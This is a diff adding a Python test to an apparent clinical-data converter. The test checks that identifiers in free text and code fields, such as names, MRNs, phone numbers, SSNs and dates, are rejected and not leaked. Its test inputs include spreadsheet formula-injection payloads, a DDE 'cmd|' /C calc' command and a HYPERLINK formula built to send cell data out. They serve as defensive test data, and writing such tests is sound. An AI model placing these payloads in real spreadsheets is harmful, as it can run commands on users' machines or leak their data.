@@ -310,3 +310,48 @@ def test_a_formula_without_its_stored_result_is_refused_with_its_cell(tmp_path: 
             target.writestr(item, data)
     [table] = read_tables([stored])
     assert table.rows == ((2, {"MRN": "MRN001", "Age": 42}),)
+
+
+def test_identifiers_in_free_text_codes_and_country_are_errors_naming_the_kind() -> None:
+    """Free text, codes and the country were sent as typed: MRNs, names, phones, dates, formulas."""
+    demo = _table("demographics", ["MRN", "Last Name", "First Name", "DOB", "Sex", "Country"],
+                  ["A077", "KING", "ASHLEY", "1950-06-01", "F", "US"],
+                  ["B088", "SCOTT", "WILLIAM", "1960-01-01", "M", "123 Main St, Springfield"],
+                  ["C099", "PEREZ", "ANA", "1970-01-01", "F", "United States"])
+    tests = _table("covid_tests", ["MRN", "TestDate", "Result"], *[[m, "2021-03-01", "Positive"]
+                                                                   for m in ("A077", "B088", "C099")])
+    # (MRN, condition, code, the column with the error, what the message says was found)
+    cases = [
+        ("A077", "COVID-19 per Dr KING, MRN 18376500, pt ASHLEY KING", "U07.1", "Condition", "a name after a title"),
+        ("A077", "call 555-123-4567, jdoe@example.org", "U07.1", "Condition", "an e-mail address and a phone number"),
+        ("A077", "seen 04.03.2021, Mar 2021, 3rd March 2021", "U07.1", "Condition", "a calendar date"),
+        ("A077", "Pneumonia", "SSN 123-45-6789", "ICD10", "a social security number"),
+        ("A077", '=HYPERLINK("http://x/"&A1)', "J12.82", "Condition", "a spreadsheet formula"),
+        ("A077", "Asthma", "+cmd|' /C calc'!A0", "ICD10", "a spreadsheet formula"),
+        ("C099", "seen with william scott", "J45", "Condition", "a patient's name"),  # another patient's name
+        ("C099", "contact of b088", "J45", "Condition", "an MRN of this site"),
+        ("A077", "ashley's cough", "J45", "Condition", "a patient's name"),  # the patient's own first name
+        ("C099", "Type 2 diabetes mellitus", "E11.9", None, ""),
+        ("C099", "Graves disease", "242.00", None, ""),  # ICD-9-CM
+    ]
+    conditions = _table("conditions", ["MRN", "Condition", "ICD10"], *[list(c[:3]) for c in cases])
+    meds = _table("medications", ["MRN", "Medication", "RxNorm"], ["C099", "Dexamethasone started 2021.08.06", "3264"],
+                  ["C099", "@SUM(1+1)*cmd|' /C calc'!A0", "3264"], ["C099", "Remdesivir", "2284718"])
+    result = convert_clinical([demo, tests, conditions, meds], key=KEY, site="S", project="P")
+    found = {(Path(i.file or "").stem, i.row, i.column): i for i in result.errors}
+    expected = {("conditions", row, c[3]): c[4] for row, c in enumerate(cases, start=2) if c[3]}
+    expected |= {("medications", 2, "Medication"): "a calendar date",
+                 ("medications", 3, "Medication"): "a spreadsheet formula",
+                 ("demographics", 3, "Country"): "not a country"}
+    # B088's demographics row is rejected: its test is an orphan (not a text problem)
+    assert set(found) - {("covid_tests", 3, "MRN")} == set(expected), sorted(found)
+    for where, words in expected.items():
+        issue = found[where]
+        assert words in issue.message and issue.message.startswith(f"{where[2]}: "), (where, issue.message)
+        assert issue.value is None and issue.fix  # the kind, never the value
+    assert "remove the identifier from the text" in found[("conditions", 2, "Condition")].fix
+    sent = repr(result.by_node())
+    for leaked in ("KING", "ASHLEY", "18376500", "555-123", "jdoe", "2021", "123-45", "HYPERLINK", "cmd|", "Main St"):
+        assert leaked.lower() not in sent.lower(), leaked
+    assert {c["condition_name"] for c in result.by_node()["condition"]} == {"Type 2 diabetes mellitus", "Graves disease"}
+    assert [m["medication_name"] for m in result.by_node()["medication"]] == ["Remdesivir"]
